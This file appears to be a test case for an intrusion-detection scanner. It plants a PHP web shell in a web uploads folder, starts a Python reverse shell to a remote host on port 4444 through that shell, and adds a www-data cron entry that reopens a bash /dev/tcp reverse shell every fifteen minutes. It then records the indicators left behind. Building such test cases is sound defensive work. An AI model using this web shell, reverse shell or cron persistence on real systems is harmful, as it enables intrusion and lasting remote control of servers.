# id: C09
# mode: scan
# level: suspicious
# due: now
# root: service
# network: world
# title: a shell in python on a connection, started by a page, and a line of cron that opens it again
. "$here/intruder.sh"
word name
printf '<?php @exec($_GET["q"]);\n' >"/var/www/html/uploads/$name.php"
chown www-data "/var/www/html/uploads/$name.php"
cat >"$dropped/run.py" <<END
import os, socket
peer = socket.create_connection(("$far", 4444))
for number in range(3):
    os.dup2(peer.fileno(), number)
open("$dropped/$name", "w").close()
os.execv("/bin/sh", ["sh", "-i"])
END
web_service
ask "/uploads/$name.php?q=python3+-c+%22exec(open('$dropped/run.py').read())%22" 8081
dialled "$name"
wait_for starts -xf 'sh -i'
said pid "$(pgrep -xf 'sh -i')"
said path "/var/www/html/uploads/$name.php"
crontab_of www-data "*/15 * * * * /bin/bash -c 'bash -i >& /dev/tcp/$far/4444 0>&1'"
said entry name php-fpm
said restarter path /var/spool/cron/crontabs/www-data
